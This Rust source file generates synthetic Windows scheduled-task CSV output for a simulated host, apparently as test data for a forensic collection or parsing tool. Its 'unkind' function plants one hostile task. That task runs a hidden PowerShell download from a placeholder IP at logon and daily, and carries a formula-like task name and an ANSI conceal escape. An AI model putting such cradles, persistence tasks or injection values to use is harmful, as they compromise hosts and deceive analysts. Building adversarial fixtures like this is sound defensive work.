//! `Scheduled Tasks/ScheduledTasks.csv`: what `schtasks /query /v /fo CSV` printed.
//!
//! One row for each trigger. The agent drops the headers that schtasks repeats, by splitting at LF
//! and joining with CR LF: every line but the last ends with CR CR LF, and the last with CR.

use time::{Date, Month};

use super::csv;
use super::habit::Habit;
use super::host::{Host, seconds};
use super::rng::Rng;

/// The member's bytes, and what is in them.
pub(super) fn csv(host: &Host) -> Written {
    let (mut lasting, mut passing) = (host.lasting("tasks"), host.passing("tasks"));
    let mut lines = vec![csv::full_line(COLUMNS)];
    let listed = include_str!("../../data/tasks.txt").lines();
    let mut tasks: Vec<Task> = listed.filter_map(|line| parse(host, line)).collect();
    tasks.extend(host.is_unkind.then(|| unkind(host)));
    for task in &tasks {
        lines.extend(rows(host, task, &mut lasting, &mut passing));
    }
    let rows = lines.len() - 1;
    let text: String = lines.join("\r\r\n") + "\r";
    Written { bytes: text.into_bytes(), tasks: tasks.len(), rows }
}

/// The member's bytes, how many tasks are in them, and how many rows these have.
#[derive(Debug)]
pub(super) struct Written {
    pub(super) bytes: Vec<u8>,
    pub(super) tasks: usize,
    pub(super) rows: usize,
}

#[derive(Clone, Debug)]
struct Task {
    name: String,
    author: String,
    action: String,
    comment: String,
    user: String,
    triggers: Vec<String>,
}

fn parse(host: &Host, line: &str) -> Option<Task> {
    let person = host.person();
    let fill = |text: &str| text.replace("{sid}", &person.sid).replace("{user}", &person.name);
    let mut cells = line.split('\t').map(fill);
    let mut next = || cells.next();
    Some(Task {
        name: next()?,
        author: next()?,
        action: next()?,
        comment: next()?,
        user: next()?,
        triggers: next()?.split(',').map(str::to_owned).collect(),
    })
}

fn unkind(host: &Host) -> Task {
    Task {
        name: r"\Updater, 'weekly' =1+1".to_owned(),
        author: format!(r"{}\{}", host.name, host.person().name),
        action: "powershell.exe -w hidden -c \"& { iwr 'http://203.0.113.66/a' }\" \u{1b}[8m"
            .to_owned(),
        comment: "N/A".to_owned(),
        user: host.person().name.clone(),
        triggers: vec!["logon".to_owned(), "daily".to_owned()],
    }
}

/// A task's rows: alike but for the nine columns of the trigger.
fn rows(host: &Host, task: &Task, lasting: &mut Rng, passing: &mut Rng) -> Vec<String> {
    let is_disabled = lasting.chance(15);
    let last = lasting.chance(65).then(|| Habit::of(host, &task.name).latest(host.started).next());
    let last = last.flatten();
    let has_run = last.is_some();
    let is_running = has_run && !is_disabled && passing.chance(3);
    let result = match (is_running, has_run) {
        (true, _) => "267009",
        (_, false) => "267011",
        _ if passing.chance(8) => "-2147020576",
        _ => "0",
    };
    let is_timed = task.triggers.iter().any(|trigger| TIMED.contains(&trigger.as_str()));
    let next = host.started + seconds(passing.range(600, 86_400));
    let local = |instant| host.region.date_time(host.local(instant));
    let mut row = vec![
        host.name.clone(),
        task.name.clone(),
        if is_timed && !is_disabled { local(next) } else { NONE.to_owned() },
        if is_disabled {
            "Disabled"
        } else if is_running {
            "Running"
        } else {
            "Ready"
        }
        .to_owned(),
        if task.user == host.person().name { "Interactive only" } else { "Interactive/Background" }
            .to_owned(),
        last.map_or_else(|| never(host), local),
        result.to_owned(),
        task.author.clone(),
        task.action.clone(),
        NONE.to_owned(),
        task.comment.clone(),
        if is_disabled { "Disabled" } else { "Enabled" }.to_owned(),
        (*lasting.of(&["Disabled", "Disabled", IDLE])).to_owned(),
        (*lasting.of(&["", "", BATTERY, "Stop On Battery Mode"])).to_owned(),
        task.user.clone(),
        "Disabled".to_owned(),
        (*lasting.of(&["72:00:00", "01:00:00", "02:00:00", "Disabled"])).to_owned(),
        "Scheduling data is not available in this format.".to_owned(),
    ];
    let fixed = row.len();
    let start = host.local(host.installed() + seconds(lasting.below(2_000_000)));
    let mut lines = Vec::new();
    for trigger in &task.triggers {
        row.truncate(fixed);
        row.extend(columns_of(trigger, &host.region.time(start), &host.region.date(start)));
        lines.push(csv::full_line(row.iter().map(String::as_str)));
    }
    lines
}

/// Schedule type, start time and date, end date, days, months, and the four of repetition.
fn columns_of(trigger: &str, time: &str, date: &str) -> [String; 10] {
    let (kind, days, every) = match trigger {
        "daily" => ("Daily ", "Every 1 day(s)", "Disabled"),
        "weekly" => ("Weekly", "SUN", "Disabled"),
        "hourly" => ("One Time Only, Hourly ", NONE, "6 Hour(s), 0 Minute(s)"),
        "minute" => ("One Time Only, Minute ", NONE, "0 Hour(s), 15 Minute(s)"),
        "once" => ("One Time Only", NONE, "Disabled"),
        "logon" => return untimed("At logon time"),
        "startup" => return untimed("At system start up"),
        "idle" => return untimed("At idle time"),
        "event" => return untimed("When an event occurs"),
        "demand" => return untimed("On demand only"),
        _ => return untimed("Undefined"),
    };
    let until = if every == "Disabled" { "Disabled" } else { "None" };
    [kind, time, date, NONE, days, NONE, every, until, "Disabled", "Disabled"].map(str::to_owned)
}

fn untimed(kind: &str) -> [String; 10] {
    [kind, NONE, NONE, NONE, NONE, NONE, NONE, NONE, NONE, NONE].map(str::to_owned)
}

/// What schtasks prints for a task that never ran.
fn never(host: &Host) -> String {
    let date = Date::from_calendar_date(1999, Month::November, 30);
    date.map_or(String::new(), |date| host.region.date_time(date.midnight().assume_utc()))
}

const NONE: &str = "N/A";
const IDLE: &str = "Only Start If Idle for  minutes, If Not Idle Retry For  minutes Stop the task if Idle State end";
const BATTERY: &str = "Stop On Battery Mode, No Start On Batteries";
const TIMED: [&str; 5] = ["daily", "weekly", "hourly", "minute", "once"];

/// The columns of a real member from an English Windows.
const COLUMNS: [&str; 28] = [
    "HostName",
    "TaskName",
    "Next Run Time",
    "Status",
    "Logon Mode",
    "Last Run Time",
    "Last Result",
    "Author",
    "Task To Run",
    "Start In",
    "Comment",
    "Scheduled Task State",
    "Idle Time",
    "Power Management",
    "Run As User",
    "Delete Task If Not Rescheduled",
    "Stop Task If Runs X Hours and X Mins",
    "Schedule",
    "Schedule Type",
    "Start Time",
    "Start Date",
    "End Date",
    "Days",
    "Months",
    "Repeat: Every",
    "Repeat: Until: Time",
    "Repeat: Until: Duration",
    "Repeat: Stop If Still Running",
];
